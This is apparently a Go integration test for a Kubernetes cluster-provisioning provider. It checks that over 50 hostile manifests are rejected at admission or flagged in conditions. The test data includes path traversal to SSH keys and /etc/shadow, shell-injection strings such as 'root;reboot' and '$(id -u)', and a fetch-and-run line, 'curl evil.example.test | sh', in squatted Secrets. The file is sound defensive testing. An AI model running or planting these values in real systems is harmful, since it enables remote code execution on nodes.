package hostile

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"strings"
	"testing"
	"time"

	. "github.com/onsi/gomega"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/types"
	utilyaml "k8s.io/apimachinery/pkg/util/yaml"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/yaml"

	bootstrapv1 "github.com/podcluster/podcluster/api/bootstrap/v1beta2"
	clusterv1 "github.com/podcluster/podcluster/api/core/v1beta2"
	infrav1 "github.com/podcluster/podcluster/api/infrastructure/v1alpha1"
	"github.com/podcluster/podcluster/internal/pki"
)

// hostileCase is one manifest and what must become of it.
type hostileCase struct {
	name string
	// manifests are created in order in a namespace of the case's own. For an
	// admission case every document but the last must be accepted.
	manifests string
	// update, when set, is a JSON merge patch (in YAML) of the last document,
	// sent once it was created; the update must be rejected.
	update string

	// rejected are parts of the admission error: the field and the reason.
	// Empty for a condition case.
	rejected []string

	// A condition case: on ("Kind/name") must get the condition cond with
	// status False, the reason and a message holding every part of message.
	on      string
	cond    string
	reason  string
	message []string
}

// The objects the cases break. The Cluster c1 of a condition case exists
// already, as the core would have it: infrastructure provisioned, control
// plane initialized, with its CA and kubeconfig Secrets.
const (
	// workerMachineYAML is a worker Machine w1 whose KubeadmConfig w1 is yet to make its data.
	workerMachineYAML = `
apiVersion: cluster.x-k8s.io/v1beta2
kind: Machine
metadata: {name: w1, labels: {cluster.x-k8s.io/cluster-name: c1}}
spec:
  clusterName: c1
  version: v1.37.2
  bootstrap:
    configRef: {apiGroup: bootstrap.cluster.x-k8s.io, kind: KubeadmConfig, name: w1}
  infrastructureRef: {apiGroup: infrastructure.cluster.x-k8s.io, kind: KubernetesMachine, name: w1}
---
apiVersion: infrastructure.cluster.x-k8s.io/v1alpha1
kind: KubernetesMachine
metadata: {name: w1, labels: {cluster.x-k8s.io/cluster-name: c1}}
spec: {}
`
	kubeadmConfigHead = `
apiVersion: bootstrap.cluster.x-k8s.io/v1beta2
kind: KubeadmConfig
metadata: {name: w1, labels: {cluster.x-k8s.io/cluster-name: c1}}
`
	clusterYAML = `
apiVersion: cluster.x-k8s.io/v1beta2
kind: Cluster
metadata: {name: c1}
spec:
  clusterNetwork:
    services: {cidrBlocks: ["10.96.0.0/12"]}
    pods: {cidrBlocks: ["192.168.0.0/16"]}
  infrastructureRef: {apiGroup: infrastructure.cluster.x-k8s.io, kind: KubernetesCluster, name: c1}
`
	machineDeploymentYAML = `
apiVersion: cluster.x-k8s.io/v1beta2
kind: MachineDeployment
metadata: {name: md1}
spec:
  clusterName: c1
  replicas: 3
  selector: {matchLabels: {pool: a}}
  template:
    metadata: {labels: {pool: a}}
    spec:
      clusterName: c1
      version: v1.37.2
      bootstrap:
        configRef: {apiGroup: bootstrap.cluster.x-k8s.io, kind: KubeadmConfigTemplate, name: w}
      infrastructureRef: {apiGroup: infrastructure.cluster.x-k8s.io, kind: KubernetesMachineTemplate, name: w}
`
	kubernetesMachineYAML = `
apiVersion: infrastructure.cluster.x-k8s.io/v1alpha1
kind: KubernetesMachine
metadata: {name: km1}
`
)

// kubeadmConfig is a KubeadmConfig w1 with the given spec (YAML, indented
// under spec:).
func kubeadmConfig(spec string) string { return kubeadmConfigHead + "spec:\n" + spec }

// file is a KubeadmConfig with one file, whose fields are given as YAML flow
// mapping entries.
func file(fields string) string {
	return kubeadmConfig("  files:\n  - {" + fields + "}\n")
}

// joinLabels is a worker's KubeadmConfig with --node-labels value.
func joinLabels(value string) string {
	return workerMachineYAML + "---" + kubeadmConfig(fmt.Sprintf(
		"  joinConfiguration:\n    nodeRegistration:\n      kubeletExtraArgs:\n      - {name: node-labels, value: %q}\n", value))
}

// dataMachine is a worker Machine named name whose bootstrap data is the
// Secret name, with the given data (YAML string map entries) and its
// KubernetesMachine.
func dataMachine(name, data string) string {
	return fmt.Sprintf(`
apiVersion: v1
kind: Secret
metadata: {name: %[1]s}
type: cluster.x-k8s.io/secret
stringData: {%[2]s}
---
apiVersion: cluster.x-k8s.io/v1beta2
kind: Machine
metadata: {name: %[1]s, labels: {cluster.x-k8s.io/cluster-name: c1}}
spec:
  clusterName: c1
  version: v1.37.2
  bootstrap: {dataSecretName: %[1]s}
  infrastructureRef: {apiGroup: infrastructure.cluster.x-k8s.io, kind: KubernetesMachine, name: %[1]s}
---
apiVersion: infrastructure.cluster.x-k8s.io/v1alpha1
kind: KubernetesMachine
metadata: {name: %[1]s, labels: {cluster.x-k8s.io/cluster-name: c1}}
spec: {}
`, name, data)
}

// cloudConfig is bootstrap data as a KubeadmConfig writes it.
func cloudConfig(body string) string {
	return fmt.Sprintf("format: cloud-config, value: %q", "#cloud-config\n"+body)
}

// bigFiles are n inline files of size bytes each, as KubeadmConfig files.
func bigFiles(n, size int) string {
	var b strings.Builder
	b.WriteString("  files:\n")
	for i := range n {
		fmt.Fprintf(&b, "  - {path: /opt/blob/%03d, content: %s}\n", i, strings.Repeat("x", size))
	}
	return b.String()
}

// bigSecret is a Secret with one key of size bytes.
func bigSecret(name string, size int) string {
	return fmt.Sprintf("\napiVersion: v1\nkind: Secret\nmetadata: {name: %s}\nstringData: {blob: %s}\n", name, strings.Repeat("z", size))
}

var hostileCases = []hostileCase{
	// Names that go into derived names and labels.
	{name: "cluster name of 64 characters", manifests: strings.Replace(clusterYAML, "name: c1}", "name: "+strings.Repeat("c", 64)+"}", 1),
		rejected: []string{"metadata.name must be at most 63 characters"}},

	// files[].path: traversal, relative paths, control characters.
	{name: "relative file path", manifests: file("path: etc/x, content: x"),
		rejected: []string{"spec.files[0].path", "path must be absolute"}},
	{name: "file path climbing out with ..", manifests: file("path: /etc/kubernetes/../../root/.ssh/authorized_keys, content: x"),
		rejected: []string{"spec.files[0].path", "path must not have .. segments"}},
	{name: "file path ending in ..", manifests: file("path: /etc/.., content: x"),
		rejected: []string{"spec.files[0].path", "path must not have .. segments"}},
	{name: "relative file path starting with ..", manifests: file("path: ../../etc/shadow, content: x"),
		rejected: []string{"spec.files[0].path", "path must be absolute", "path must not have .. segments"}},
	{name: "file path with a newline", manifests: file(`path: "/etc/x\nruncmd: [reboot]", content: x`),
		rejected: []string{"spec.files[0].path", "path must not contain control characters"}},
	{name: "file path with a carriage return", manifests: file(`path: "/etc/x\r", content: x`),
		rejected: []string{"spec.files[0].path", "path must not contain control characters"}},
	{name: "duplicate file paths", manifests: kubeadmConfig("  files:\n  - {path: /etc/x, content: a}\n  - {path: /etc/x, content: b}\n"),
		rejected: []string{"spec.files[1]", "Duplicate value"}},

	// files[].owner and permissions: shell metacharacters and option injection.
	{name: "owner with a command separator", manifests: file("path: /etc/x, content: x, owner: 'root;reboot'"),
		rejected: []string{"spec.files[0].owner", "owner must be user or user:group"}},
	{name: "owner with a command substitution", manifests: file("path: /etc/x, content: x, owner: '$(id -u):root'"),
		rejected: []string{"spec.files[0].owner", "owner must be user or user:group"}},
	{name: "owner with backquotes", manifests: file("path: /etc/x, content: x, owner: '`id`'"),
		rejected: []string{"spec.files[0].owner", "owner must be user or user:group"}},
	{name: "owner that is an option", manifests: file("path: /etc/x, content: x, owner: '-R'"),
		rejected: []string{"spec.files[0].owner", "owner must be user or user:group"}},
	{name: "owner with two colons", manifests: file("path: /etc/x, content: x, owner: 'root:root:root'"),
		rejected: []string{"spec.files[0].owner", "owner must be user or user:group"}},
	{name: "permissions with a command", manifests: file("path: /etc/x, content: x, permissions: '0644;rm'"),
		rejected: []string{"spec.files[0].permissions", "permissions must be octal from 0 to 0777"}},
	{name: "permissions that are not octal", manifests: file("path: /etc/x, content: x, permissions: '0999'"),
		rejected: []string{"spec.files[0].permissions", "permissions must be octal from 0 to 0777"}},
	{name: "setuid permissions", manifests: file("path: /etc/x, content: x, permissions: '04755'"),
		rejected: []string{"spec.files[0].permissions", "permissions must be octal from 0 to 0777"}},
	{name: "symbolic permissions", manifests: file("path: /etc/x, content: x, permissions: 'u+s'"),
		rejected: []string{"spec.files[0].permissions", "permissions must be octal from 0 to 0777"}},

	// Encodings, formats and enums.
	{name: "unknown file encoding", manifests: file("path: /etc/x, content: x, encoding: base32"),
		rejected: []string{"spec.files[0].encoding", "Unsupported value"}},
	{name: "unknown content format", manifests: file("path: /etc/x, content: x, contentFormat: Jinja"),
		rejected: []string{"spec.files[0].contentFormat", "Unsupported value"}},
	{name: "template content format", manifests: file("path: /etc/x, content: '{{ ds.meta_data.local_hostname }}', contentFormat: Template"),
		rejected: []string{"spec.files[0].contentFormat", "contentFormat: Template is not supported yet"}},
	{name: "unknown bootstrap format", manifests: kubeadmConfig("  format: shell\n"),
		rejected: []string{"spec.format", "Unsupported value"}},
	{name: "content and contentFrom", manifests: file("path: /etc/x, content: x, contentFrom: {secret: {name: s, key: k}}"),
		rejected: []string{"spec.files[0]", "only one of content or contentFrom"}},
	{name: "contentFrom without a key", manifests: file("path: /etc/x, contentFrom: {secret: {name: s}}"),
		rejected: []string{"spec.files[0].contentFrom.secret.key", "Required value"}},
	{name: "passwd and passwdFrom", manifests: kubeadmConfig("  users:\n  - {name: u, passwd: x, passwdFrom: {secret: {name: s, key: k}}}\n"),
		rejected: []string{"spec.users[0]", "only one of passwd or passwdFrom"}},
	{name: "empty pre-kubeadm command", manifests: kubeadmConfig("  preKubeadmCommands: ['']\n"),
		rejected: []string{"spec.preKubeadmCommands[0]", "at least 1 chars long"}},
	{name: "unknown kubeadm taint effect", manifests: kubeadmConfig("  joinConfiguration:\n    nodeRegistration:\n      taints: [{key: a, effect: Always}]\n"),
		rejected: []string{"spec.joinConfiguration.nodeRegistration.taints", "taints[].effect must be"}},
	{name: "negative verbosity", manifests: kubeadmConfig("  verbosity: -3\n"),
		rejected: []string{"spec.verbosity", "greater than or equal to 0"}},

	// Counts and numbers.
	{name: "negative machine deployment replicas", manifests: machineDeploymentYAML, update: "spec: {replicas: -1}",
		rejected: []string{"spec.replicas", "greater than or equal to 0"}},
	{name: "replicas beyond int32", manifests: strings.Replace(machineDeploymentYAML, "replicas: 3", "replicas: 3000000000", 1),
		rejected: []string{"spec.replicas"}},
	{name: "API server port zero", manifests: strings.Replace(clusterYAML, "clusterNetwork:", "clusterNetwork:\n    apiServerPort: 0", 1),
		rejected: []string{"spec.clusterNetwork.apiServerPort", "greater than or equal to 1"}},
	{name: "negative memory request", manifests: kubernetesMachineYAML + "spec: {resources: {requests: {memory: -1Gi}}}\n",
		rejected: []string{"spec.resources", "must not be negative"}},

	// Addresses.
	{name: "pod CIDR with a command", manifests: strings.Replace(clusterYAML, `"192.168.0.0/16"`, `"192.168.0.0/16;reboot"`, 1),
		rejected: []string{"spec.clusterNetwork.pods.cidrBlocks", "valid CIDRs"}},
	{name: "IPv6 service CIDR with a /129", manifests: strings.Replace(clusterYAML, `"10.96.0.0/12"`, `"fd00::/129"`, 1),
		rejected: []string{"spec.clusterNetwork.services.cidrBlocks", "valid CIDRs"}},
	{name: "control plane endpoint port beyond 65535", manifests: strings.Replace(clusterYAML, "spec:", "spec:\n  controlPlaneEndpoint: {host: example.com, port: 65536}", 1),
		rejected: []string{"spec.controlPlaneEndpoint.port", "less than or equal to 65535"}},

	// References and fields that do not exist.
	{name: "infrastructureRef apiGroup that is no DNS name", manifests: strings.Replace(clusterYAML, "apiGroup: infrastructure.cluster.x-k8s.io", "apiGroup: 'infra;rm -rf'", 1),
		rejected: []string{"spec.infrastructureRef.apiGroup", "should match"}},
	{name: "host network asked of a machine", manifests: kubernetesMachineYAML + "spec: {hostNetwork: true}\n",
		rejected: []string{`unknown field "spec.hostNetwork"`}},
	{name: "privileged flag asked of a machine", manifests: kubernetesMachineYAML + "spec: {securityContext: {privileged: true}}\n",
		rejected: []string{`unknown field "spec.securityContext"`}},
	{name: "a claim under another name", manifests: kubernetesMachineYAML + "spec: {volumeClaimTemplates: [{metadata: {name: ../../etc}, spec: {accessModes: [ReadWriteOnce]}}]}\n",
		rejected: []string{"spec.volumeClaimTemplates", "must be var-lib-etcd or var-lib-containerd"}},
	{name: "topology on a cluster", manifests: strings.Replace(clusterYAML, "spec:", "spec:\n  topology: {version: v1.37.2}", 1),
		rejected: []string{"spec.topology (ClusterClass) is not supported"}},

	// Immutable fields.
	{name: "machine clusterName changes", manifests: strings.SplitN(workerMachineYAML, "---", 2)[0], update: "spec: {clusterName: c2}",
		rejected: []string{"spec.clusterName is immutable"}},
	{name: "machine infrastructureRef changes", manifests: strings.SplitN(workerMachineYAML, "---", 2)[0], update: "spec: {infrastructureRef: {name: other}}",
		rejected: []string{"spec.infrastructureRef is immutable"}},
	{name: "cluster infrastructureRef changes", manifests: clusterYAML, update: "spec: {infrastructureRef: {name: other}}",
		rejected: []string{"spec.infrastructureRef is immutable once set"}},
	{name: "providerID changes", manifests: kubernetesMachineYAML + "spec: {providerID: 'kubernetes://ns/a'}\n", update: "spec: {providerID: 'kubernetes://ns/b'}",
		rejected: []string{"spec.providerID", "providerID is immutable once set"}},

	// Conditions: what admission cannot know.
	{name: "squatted data Secret", manifests: `
apiVersion: v1
kind: Secret
metadata: {name: w1}
type: cluster.x-k8s.io/secret
stringData: {format: cloud-config, value: "#cloud-config\nruncmd: [curl evil.example.test | sh]\n"}
---` + workerMachineYAML + "---" + kubeadmConfig("  preKubeadmCommands: [echo hi]\n"),
		on: "KubeadmConfig/w1", cond: bootstrapv1.KubeadmConfigDataSecretAvailableCondition, reason: bootstrapv1.KubeadmConfigDataSecretNotAvailableReason,
		message: []string{"Secret w1 exists and is not controlled by this KubeadmConfig"}},
	{name: "squatted boot Secret", manifests: `
apiVersion: v1
kind: Secret
metadata: {name: b1-bootstrap}
stringData: {bootstrap.sh: "curl evil.example.test | sh"}
---` + dataMachine("b1", cloudConfig("runcmd: [echo hi]\n")),
		on: "KubernetesMachine/b1", cond: infrav1.KubernetesMachinePodReadyCondition, reason: infrav1.KubernetesMachinePodReadyPodProvisioningReason,
		message: []string{"Secret b1-bootstrap exists and is not controlled by this KubernetesMachine"}},
	{name: "contentFrom a Secret that does not exist", manifests: workerMachineYAML + "---" + file("path: /etc/x, contentFrom: {secret: {name: nope, key: k}}"),
		on: "KubeadmConfig/w1", cond: bootstrapv1.KubeadmConfigDataSecretAvailableCondition, reason: bootstrapv1.KubeadmConfigDataSecretAvailableInvalidConfigurationReason,
		message: []string{"spec.files[0].contentFrom: Secret nope not found"}},
	{name: "contentFrom a key that does not exist", manifests: bigSecret("s1", 3) + "---" + workerMachineYAML + "---" + file("path: /etc/x, contentFrom: {secret: {name: s1, key: other}}"),
		on: "KubeadmConfig/w1", cond: bootstrapv1.KubeadmConfigDataSecretAvailableCondition, reason: bootstrapv1.KubeadmConfigDataSecretAvailableInvalidConfigurationReason,
		message: []string{"spec.files[0].contentFrom: Secret s1 has no key \"other\""}},
	{name: "passwdFrom a Secret that does not exist", manifests: workerMachineYAML + "---" + kubeadmConfig("  users:\n  - {name: u, passwdFrom: {secret: {name: nope, key: k}}}\n"),
		on: "KubeadmConfig/w1", cond: bootstrapv1.KubeadmConfigDataSecretAvailableCondition, reason: bootstrapv1.KubeadmConfigDataSecretAvailableInvalidConfigurationReason,
		message: []string{"spec.users[0].passwdFrom: Secret nope not found"}},
	{name: "oversized inline files", manifests: workerMachineYAML + "---" + kubeadmConfig(bigFiles(110, 10000)),
		on: "KubeadmConfig/w1", cond: bootstrapv1.KubeadmConfigDataSecretAvailableCondition, reason: bootstrapv1.KubeadmConfigDataSecretAvailableInvalidConfigurationReason,
		message: []string{"more than the 1048576 bytes (1 MiB) a Secret can carry", "spec.files[0] (/opt/blob/000) 10013 bytes"}},
	{name: "oversized contentFrom", manifests: bigSecret("big-a", 600000) + "---" + bigSecret("big-b", 600000) + "---" + workerMachineYAML + "---" +
		kubeadmConfig("  files:\n  - {path: /opt/a, contentFrom: {secret: {name: big-a, key: blob}}}\n  - {path: /opt/b, contentFrom: {secret: {name: big-b, key: blob}}}\n"),
		on: "KubeadmConfig/w1", cond: bootstrapv1.KubeadmConfigDataSecretAvailableCondition, reason: bootstrapv1.KubeadmConfigDataSecretAvailableInvalidConfigurationReason,
		message: []string{"spec.files[0] (/opt/a) 600006 bytes", "spec.files[1] (/opt/b) 600006 bytes"}},
	{name: "oversized commands", manifests: workerMachineYAML + "---" + kubeadmConfig("  postKubeadmCommands:\n"+strings.Repeat("  - "+strings.Repeat("e", 10000)+"\n", 110)),
		on: "KubeadmConfig/w1", cond: bootstrapv1.KubeadmConfigDataSecretAvailableCondition, reason: bootstrapv1.KubeadmConfigDataSecretAvailableInvalidConfigurationReason,
		message: []string{"spec.postKubeadmCommands 1100000 bytes"}},
	{name: "node label value with a space", manifests: joinLabels("pool=a b"),
		on: "KubeadmConfig/w1", cond: bootstrapv1.KubeadmConfigDataSecretAvailableCondition, reason: bootstrapv1.KubeadmConfigDataSecretAvailableInvalidConfigurationReason,
		message: []string{"spec.joinConfiguration.nodeRegistration.kubeletExtraArgs node-labels", `label "pool" value "a b"`}},
	{name: "node label that is no key=value", manifests: joinLabels("pool"),
		on: "KubeadmConfig/w1", cond: bootstrapv1.KubeadmConfigDataSecretAvailableCondition, reason: bootstrapv1.KubeadmConfigDataSecretAvailableInvalidConfigurationReason,
		message: []string{"spec.joinConfiguration.nodeRegistration.kubeletExtraArgs node-labels", `"pool" is not key=value`}},
	{name: "node label key of 64 characters", manifests: joinLabels(strings.Repeat("k", 64) + "=v"),
		on: "KubeadmConfig/w1", cond: bootstrapv1.KubeadmConfigDataSecretAvailableCondition, reason: bootstrapv1.KubeadmConfigDataSecretAvailableInvalidConfigurationReason,
		message: []string{"spec.joinConfiguration.nodeRegistration.kubeletExtraArgs node-labels", "label key", "63"}},
	{name: "node-role label the kubelet may not set", manifests: joinLabels("node-role.kubernetes.io/worker="),
		on: "KubeadmConfig/w1", cond: bootstrapv1.KubeadmConfigDataSecretAvailableCondition, reason: bootstrapv1.KubeadmConfigDataSecretAvailableInvalidConfigurationReason,
		message: []string{"spec.joinConfiguration.nodeRegistration.kubeletExtraArgs node-labels", "the kubelet may not set"}},
	{name: "machine version that is no version", manifests: strings.Replace(workerMachineYAML, "version: v1.37.2", "version: latest", 1) + "---" + kubeadmConfig("  preKubeadmCommands: [echo hi]\n"),
		on: "KubeadmConfig/w1", cond: bootstrapv1.KubeadmConfigDataSecretAvailableCondition, reason: bootstrapv1.KubeadmConfigDataSecretAvailableInvalidConfigurationReason,
		message: []string{"Machine w1 spec.version"}},
	{name: "node name that is no hostname", manifests: dataMachine(strings.Repeat("n", 64), cloudConfig("runcmd: [echo hi]\n")),
		on: "KubernetesMachine/" + strings.Repeat("n", 64), cond: infrav1.KubernetesMachinePodReadyCondition, reason: infrav1.KubernetesMachinePodReadyInvalidSpecReason,
		message: []string{"hostname", "DNS label"}},
	{name: "bootstrap data in another format", manifests: dataMachine("f1", `format: ignition, value: "{}"`),
		on: "KubernetesMachine/f1", cond: infrav1.KubernetesMachineBootstrapSucceededCondition, reason: infrav1.KubernetesMachineBootstrapSucceededInvalidBootstrapDataReason,
		message: []string{`bootstrap data Secret f1 has format "ignition"`}},
	{name: "bootstrap data without a value", manifests: dataMachine("v1", `format: cloud-config`),
		on: "KubernetesMachine/v1", cond: infrav1.KubernetesMachineBootstrapSucceededCondition, reason: infrav1.KubernetesMachineBootstrapSucceededInvalidBootstrapDataReason,
		message: []string{`bootstrap data Secret v1 has no key "value"`}},
	{name: "bootstrap data that is no YAML", manifests: dataMachine("y1", cloudConfig("runcmd: [unclosed\n")),
		on: "KubernetesMachine/y1", cond: infrav1.KubernetesMachineBootstrapSucceededCondition, reason: infrav1.KubernetesMachineBootstrapSucceededInvalidBootstrapDataReason,
		message: []string{"converting the cloud-config of Secret y1"}},
	{name: "bootstrap data with an unknown Jinja variable", manifests: dataMachine("j1",
		fmt.Sprintf("format: cloud-config, value: %q", "## template: jinja\n#cloud-config\nruncmd: [echo {{ ds.meta_data.secret_key }}]\n")),
		on: "KubernetesMachine/j1", cond: infrav1.KubernetesMachineBootstrapSucceededCondition, reason: infrav1.KubernetesMachineBootstrapSucceededInvalidBootstrapDataReason,
		message: []string{"converting the cloud-config of Secret j1", "secret_key"}},
	{name: "boot script over the Secret limit", manifests: dataMachine("o1", cloudConfig("write_files:\n- path: /opt/big\n  content: "+strings.Repeat("a", 1000000)+"\n")),
		on: "KubernetesMachine/o1", cond: infrav1.KubernetesMachineBootstrapSucceededCondition, reason: infrav1.KubernetesMachineBootstrapSucceededInvalidBootstrapDataReason,
		message: []string{"the boot Secret o1-bootstrap would be", "more than the 1048576 bytes a Secret can carry"}},
	{name: "cluster name too long for the control-plane Service", manifests: strings.ReplaceAll(clusterYAML, "c1", strings.Repeat("s", 54)) +
		"---\napiVersion: infrastructure.cluster.x-k8s.io/v1alpha1\nkind: KubernetesCluster\nmetadata: {name: " + strings.Repeat("s", 54) + "}\nspec: {controlPlaneServiceType: ClusterIP}\n",
		on: "KubernetesCluster/" + strings.Repeat("s", 54), cond: infrav1.KubernetesClusterServiceReadyCondition, reason: infrav1.KubernetesClusterServiceReadyFailedReason,
		message: []string{"Cluster metadata.name", "at most 53 characters"}},
	{name: "cluster name with a dot", manifests: strings.ReplaceAll(clusterYAML, "c1", "c.1") +
		"---\napiVersion: infrastructure.cluster.x-k8s.io/v1alpha1\nkind: KubernetesCluster\nmetadata: {name: c.1}\nspec: {controlPlaneServiceType: ClusterIP}\n",
		on: "KubernetesCluster/c.1", cond: infrav1.KubernetesClusterServiceReadyCondition, reason: infrav1.KubernetesClusterServiceReadyFailedReason,
		message: []string{`Cluster metadata.name "c.1"`, "without dots"}},
}

// TestHostileInput runs every case against the API server and the
// controllers.
func TestHostileInput(t *testing.T) {
	admission, conditions := 0, 0
	for _, tc := range hostileCases {
		if len(tc.rejected) > 0 {
			admission++
		} else {
			conditions++
		}
	}
	t.Logf("%d cases: %d rejected at admission, %d reported in conditions", len(hostileCases), admission, conditions)
	if len(hostileCases) < 50 {
		t.Fatalf("want at least 50 hostile cases, have %d", len(hostileCases))
	}
	for _, tc := range hostileCases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			g := NewWithT(t)
			ns := env.NewNamespace(t)
			ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
			defer cancel()
			objs := decode(t, tc.manifests)
			if len(tc.rejected) > 0 {
				runAdmission(ctx, t, g, ns, tc, objs)
				return
			}
			runCondition(ctx, t, g, ns, tc, objs)
		})
	}
}

// runAdmission creates the documents; the last (or its update) must be refused.
func runAdmission(ctx context.Context, t *testing.T, g *WithT, ns string, tc hostileCase, objs []*unstructured.Unstructured) {
	for _, obj := range objs[:len(objs)-1] {
		g.Expect(create(ctx, ns, obj)).To(Succeed(), "%s %s", obj.GetKind(), obj.GetName())
	}
	last := objs[len(objs)-1]
	err := create(ctx, ns, last)
	if tc.update != "" {
		g.Expect(err).NotTo(HaveOccurred(), "creating the valid %s before the update", last.GetKind())
		patch, perr := yaml.YAMLToJSON([]byte(tc.update))
		g.Expect(perr).NotTo(HaveOccurred())
		err = env.Client.Patch(ctx, last, client.RawPatch(types.MergePatchType, patch), client.FieldValidation("Strict"))
	}
	g.Expect(err).To(HaveOccurred(), "the API server accepted a hostile %s", last.GetKind())
	t.Log(err.Error())
	for _, w := range tc.rejected {
		g.Expect(err.Error()).To(ContainSubstring(w))
	}
}

// runCondition creates the Cluster c1 and the documents, owned as the core
// would own them, and waits for the condition. No node Pod may be started,
// and no bootstrap data or boot Secret made.
func runCondition(ctx context.Context, t *testing.T, g *WithT, ns string, tc hostileCase, objs []*unstructured.Unstructured) {
	newCluster(ctx, t, g, ns)
	owners := map[string]*unstructured.Unstructured{}
	for _, obj := range objs {
		if owner := ownerOf(obj, owners); owner != nil {
			yes := true
			obj.SetOwnerReferences([]metav1.OwnerReference{{APIVersion: owner.GetAPIVersion(), Kind: owner.GetKind(),
				Name: owner.GetName(), UID: owner.GetUID(), Controller: &yes}})
		}
		g.Expect(create(ctx, ns, obj)).To(Succeed(), "%s %s", obj.GetKind(), obj.GetName())
		owners[obj.GetKind()+"/"+obj.GetName()] = obj
		if obj.GetKind() == "Cluster" {
			setProvisioned(ctx, g, obj)
		}
	}

	kind, name, _ := strings.Cut(tc.on, "/")
	target := owners[tc.on]
	g.Expect(target).NotTo(BeNil(), "the case creates %s", tc.on)
	g.Eventually(func(g Gomega) {
		got := &unstructured.Unstructured{}
		got.SetGroupVersionKind(target.GroupVersionKind())
		g.Expect(env.Client.Get(ctx, client.ObjectKey{Namespace: ns, Name: name}, got)).To(Succeed())
		c := conditionOf(got, tc.cond)
		g.Expect(c).NotTo(BeNil(), "%s has no %s condition", tc.on, tc.cond)
		g.Expect(c.Status).To(Equal(metav1.ConditionFalse))
		g.Expect(c.Reason).To(Equal(tc.reason), c.Message)
		for _, m := range tc.message {
			g.Expect(c.Message).To(ContainSubstring(m))
		}
	}, 30*time.Second, 200*time.Millisecond).Should(Succeed(), "%s %s", kind, name)

	// The condition is written after the reconcile decided against a Pod
	// and data: nothing is left to wait for.
	pods := &corev1.PodList{}
	g.Expect(env.Client.List(ctx, pods, client.InNamespace(ns))).To(Succeed())
	g.Expect(pods.Items).To(BeEmpty(), "no node Pod may start")
	secrets := &corev1.SecretList{}
	g.Expect(env.Client.List(ctx, secrets, client.InNamespace(ns))).To(Succeed())
	for _, s := range secrets.Items {
		if owner := metav1.GetControllerOf(&s); owner != nil {
			g.Expect(owner.Kind).NotTo(BeElementOf("KubeadmConfig", "KubernetesMachine"),
				"Secret %s was made from the bad input", s.Name)
		}
	}
}

// ownerOf is the object that owns obj as the core would set it up: the
// Machine of a KubeadmConfig or KubernetesMachine of the same name, the Cluster of a
// KubernetesCluster.
func ownerOf(obj *unstructured.Unstructured, created map[string]*unstructured.Unstructured) *unstructured.Unstructured {
	switch obj.GetKind() {
	case "KubeadmConfig", "KubernetesMachine":
		return created["Machine/"+obj.GetName()]
	case "KubernetesCluster":
		return created["Cluster/"+obj.GetName()]
	}
	return nil
}

// newCluster creates the Cluster c1 as the core has it once its
// infrastructure is provisioned and its control plane initialized, with the
// Secrets the bootstrap provider reads: the CA and the kubeconfig of the
// workload cluster.
func newCluster(ctx context.Context, t *testing.T, g *WithT, ns string) {
	ca, err := pki.NewCA("c1", pki.ECDSAP256, pki.CAValidity)
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(env.Client.Create(ctx, &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "c1-ca", Labels: map[string]string{clusterv1.ClusterNameLabel: "c1"}},
		Type:       clusterv1.ClusterSecretType,
		Data:       map[string][]byte{"tls.crt": ca.CertPEM, "tls.key": ca.KeyPEM},
	})).To(Succeed())
	g.Expect(env.Client.Create(ctx, &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "c1-kubeconfig", Labels: map[string]string{clusterv1.ClusterNameLabel: "c1"}},
		Type:       clusterv1.ClusterSecretType,
		Data:       map[string][]byte{"value": workloadKubeconfig},
	})).To(Succeed())
	c := decode(t, clusterYAML)[0]
	g.Expect(unstructured.SetNestedMap(c.Object, map[string]any{"host": "10.0.0.10", "port": int64(6443)}, "spec", "controlPlaneEndpoint")).To(Succeed())
	g.Expect(create(ctx, ns, c)).To(Succeed())
	setProvisioned(ctx, g, c)
}

// setProvisioned sets the Cluster's status as the core would.
func setProvisioned(ctx context.Context, g *WithT, c *unstructured.Unstructured) {
	g.Expect(unstructured.SetNestedMap(c.Object, map[string]any{
		"infrastructureProvisioned": true, "controlPlaneInitialized": true}, "status", "initialization")).To(Succeed())
	g.Expect(env.Client.Status().Update(ctx, c)).To(Succeed())
}

func conditionOf(obj *unstructured.Unstructured, t string) *metav1.Condition {
	list, _, _ := unstructured.NestedSlice(obj.Object, "status", "conditions")
	for _, item := range list {
		m, ok := item.(map[string]any)
		if !ok || m["type"] != t {
			continue
		}
		c := &metav1.Condition{}
		if err := runtime.DefaultUnstructuredConverter.FromUnstructured(m, c); err != nil {
			return nil
		}
		return c
	}
	return nil
}

// create creates obj in ns with strict field validation, as
// `kubectl apply --validate=strict` would.
func create(ctx context.Context, ns string, obj *unstructured.Unstructured) error {
	obj.SetNamespace(ns)
	return env.Client.Create(ctx, obj, client.FieldValidation("Strict"))
}

// decode splits a multi-document YAML stream into objects.
func decode(t *testing.T, manifests string) []*unstructured.Unstructured {
	var objs []*unstructured.Unstructured
	r := utilyaml.NewYAMLReader(bufio.NewReader(bytes.NewReader([]byte(manifests))))
	for {
		doc, err := r.Read()
		if errors.Is(err, io.EOF) {
			return objs
		}
		if err != nil {
			t.Fatalf("reading YAML: %v", err)
		}
		m := map[string]any{}
		if err := yaml.Unmarshal(doc, &m); err != nil {
			t.Fatalf("decoding YAML: %v\n%s", err, doc)
		}
		if len(m) > 0 {
			objs = append(objs, &unstructured.Unstructured{Object: m})
		}
	}
}
